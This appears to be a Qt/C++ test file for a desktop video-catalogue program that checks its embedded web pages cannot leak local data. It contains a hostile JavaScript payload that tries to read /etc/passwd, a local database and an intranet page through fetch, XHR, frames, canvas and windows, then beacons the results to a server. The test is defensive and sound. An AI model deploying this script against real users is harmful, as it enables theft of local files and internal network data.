// Pages the program shows load the site's scripts, and the site travels over
// plain HTTP. A hostile script, in each kind of page, tries to read the
// user's files and send them to the site; nothing may arrive. The real web
// engine, under a virtual X server.

#include "scripted_server.h"
#include "shell/main_window.h"
#include "shell/template_box.h"
#include "shell/web_engine_browser.h"
#include "shell/web_profile.h"
#include "temp_folder.h"
#include "web_engine_test_main.h"
#include "window_fixture.h"

#include <QApplication>
#include <QListWidget>
#include <QWebEngineProfile>
#include <QWebEngineView>
#include <QtTest>


using namespace kinolark;
using Reply = ScriptedServer::Reply;

namespace {

// Reports to the site what it could read of `targets`, by every road a page
// has: fetch, XHR, a frame, an image, a window. "alive" shows it ran.
QByteArray hostileScript(const QString &site, const QStringList &targets)
{
    QString list;
    for (const QString &t : targets)
        list += "'" + t + "',";
    return QString(R"JS(
(function () {
  var SITE = '%1';
  var sent = [];
  function report(kind, data) {
    var img = new Image();
    sent.push(img); // kept, so it is not collected before its request goes out
    img.src = SITE + '/report?kind=' + kind + '&data=' + encodeURIComponent(String(data).slice(0, 300));
  }
  report('alive', location.href);
  [%2].forEach(function (t) {
    try {
      fetch(t).then(function (r) { return r.text(); })
        .then(function (x) { report('fetch', x); }, function (e) { report('refused-fetch', e); });
    } catch (e) { report('refused-fetch', e); }
    try {
      var x = new XMLHttpRequest();
      x.open('GET', t, false);
      x.send();
      report('xhr', x.responseText);
    } catch (e) { report('refused-xhr', e); }
    var f = document.createElement('iframe');
    f.onload = function () {
      try { var text = f.contentDocument.body.innerText; if (text) report('frame', text); }
      catch (e) { report('refused-frame', e); }
    };
    f.src = t;
    document.documentElement.appendChild(f);
    var i = new Image();
    i.onload = function () {
      try {
        var c = document.createElement('canvas');
        c.width = i.width; c.height = i.height;
        c.getContext('2d').drawImage(i, 0, 0);
        report('image', c.toDataURL());
      } catch (e) { report('refused-image', e); }
    };
    i.src = t;
    try { var w = window.open(t); if (w) report('window', 'opened'); } catch (e) {}
  });
  // Last, the page itself tries to go to the first target.
  setTimeout(function () { try { location.href = %3; } catch (e) {} }, 1000);
  setTimeout(function () { report('done', location.href); }, 1500);
})();
)JS").arg(site, list, "'" + targets.value(0) + "'").toUtf8();
}

QWebEngineView *view(shell::Browser *browser)
{
    return static_cast<shell::WebEngineBrowser *>(browser)->view();
}

} // namespace

class tst_PageSafety : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QVERIFY(m_site.listen());
        QVERIFY(m_intranet.listen());
        m_intranet.setFallback(Reply(200, "intranet-secret"));
        m_profile = shell::makeWebProfile(this, {m_site.site()});
        m_site.on("/page.html", Reply(200, "<html><body><script src=\"/Uploads/soft.js\"></script></body></html>"));
        m_site.on("Lx=Dy&Id=7", Reply(200, "E0$http://v.example/a.mp4"));
        m_site.on("Lx=Nr&Id=7", Reply(200, "d"));
        m_site.setFallback(Reply(204));
    }
    void init() { QTest::failOnWarning(QRegularExpression(".*")); }

    void nothingLocalReachesTheSite_data()
    {
        QTest::addColumn<QString>("page");
        QTest::newRow("notice page") << "home";
        QTest::newRow("play page") << "play";
        QTest::newRow("live television page") << "tv";
        QTest::newRow("a site page") << "site";
    }
    void nothingLocalReachesTheSite()
    {
        QFETCH(QString, page);
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({{7, 8, "天下", "t"}});
        const QString catalogue = QUrl::fromLocalFile(f.file("data.db")).toString();
        // A machine of the user's own network, as well as the user's files.
        const QString intranet = m_intranet.site() + "/admin";
        m_site.on("/Uploads/soft.js",
                  Reply(200, hostileScript(m_site.site(), {"file:///etc/passwd", catalogue, intranet}))
                      .type("application/javascript"));
        QVERIFY(writeAll(f.file("tv.htm"), "<html><body>电视直播<script src=\"" + m_site.site().toUtf8()
                                               + "/Uploads/soft.js\"></script></body></html>"));
        m_site.requests.clear();
        m_intranet.requests.clear();

        shell::frmMain &w = f.load();
        if (page == "play") {
            // The play page as it would be with the player script taken over.
            w.Text1->setText(w.Text1->text().replace(QRegularExpression("src=\"[^\"]*player.js\""),
                                                     "src=\"" + m_site.site() + "/Uploads/soft.js\""));
            f.clickNode("cid8");
            w.TreeView2->setCurrentIndex(w.titleModel().index(0));
            w.TreeView2_NodeClick();
            QCOMPARE(w.ListView1->count(), 1);
            w.ListView1->setCurrentRow(0);
            w.ListView1_Click();
        } else if (page == "tv") {
            f.clickNode("cid0");
        } else if (page == "site") {
            w.WebBrowser1->navigate(m_site.site() + "/page.html");
        }
        // Every page that runs the script reports; the one under test decides.
        const QString shownPage = page == "home"   ? "home.htm"
                                  : page == "play" ? "play.htm"
                                  : page == "tv"   ? "tv.htm"
                                                   : "page.html";
        QTRY_VERIFY2_WITH_TIMEOUT(!m_site.requests.filter(QRegularExpression("^kind=done&data=.*" + QRegularExpression::escape(shownPage))).isEmpty(),
                                  qPrintable(m_site.requests.join(" | ")), 15000);

        const QStringList reports = m_site.requests.filter("kind=");
        QVERIFY2(!reports.filter(QRegularExpression("^kind=alive&data=.*" + QRegularExpression::escape(shownPage))).isEmpty(),
                 qPrintable(reports.join('\n')));
        for (const QString &report : reports) {
            const QString kind = report.section('&', 0, 0).section('=', 1);
            QVERIFY2(kind == "alive" || kind == "done" || kind.startsWith("refused-"), qPrintable(report));
            QVERIFY2(!report.contains("root:") && !report.contains("SQLite format")
                         && !report.contains("intranet-secret"),
                     qPrintable(report));
        }
        // A page of the site itself is a web page like any other; the
        // program's local pages do not even ask the user's network.
        if (page != "site")
            QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
        // The program's own navigation still shows its page.
        const QString shown = view(page == "tv" ? w.WebBrowser2 : w.WebBrowser1)->url().toString();
        QVERIFY2(!shown.contains("passwd") && !shown.contains("data.db"), qPrintable(shown));
    }

    // The keyboard goes through the real web view and out to the episode
    // list, and back.
    void tabPassesThroughTheWebView()
    {
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({});
        shell::frmMain &w = f.load();
        w.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&w));
        QTRY_COMPARE_WITH_TIMEOUT(view(w.WebBrowser1)->url(), QUrl::fromLocalFile(f.file("home.htm")), 20000);
        const auto inside = [&](QWidget *control) {
            QWidget *focus = QApplication::focusWidget();
            return focus && (focus == control || control->isAncestorOf(focus));
        };
        // Through the page's links until the keyboard leaves the page.
        const auto leaveBrowser = [&](Qt::Key key) {
            for (int press = 0; press < 6 && inside(w.WebBrowser1); ++press) {
                QTest::keyClick(QApplication::focusWidget(), key, key == Qt::Key_Backtab ? Qt::ShiftModifier : Qt::NoModifier);
                (void)QTest::qWaitFor([&] { return !inside(w.WebBrowser1); }, 1000);
            }
        };
        w.TreeView2->setFocus();
        QTest::keyClick(w.TreeView2, Qt::Key_Tab);
        QTRY_VERIFY(inside(w.WebBrowser1));
        leaveBrowser(Qt::Key_Tab);
        QVERIFY2(inside(w.ListView1), qPrintable(QApplication::focusWidget()->objectName()));
        QTest::keyClick(w.ListView1, Qt::Key_Backtab, Qt::ShiftModifier);
        QTRY_VERIFY(inside(w.WebBrowser1));
        leaveBrowser(Qt::Key_Backtab);
        QVERIFY2(inside(w.TreeView2), qPrintable(QApplication::focusWidget()->objectName()));
    }

private:
    ScriptedServer m_site;
    ScriptedServer m_intranet;
    QWebEngineProfile *m_profile = nullptr;
};

KINOLARK_WEBENGINE_TEST_MAIN(tst_PageSafety)

#include "tst_page_safety.moc"
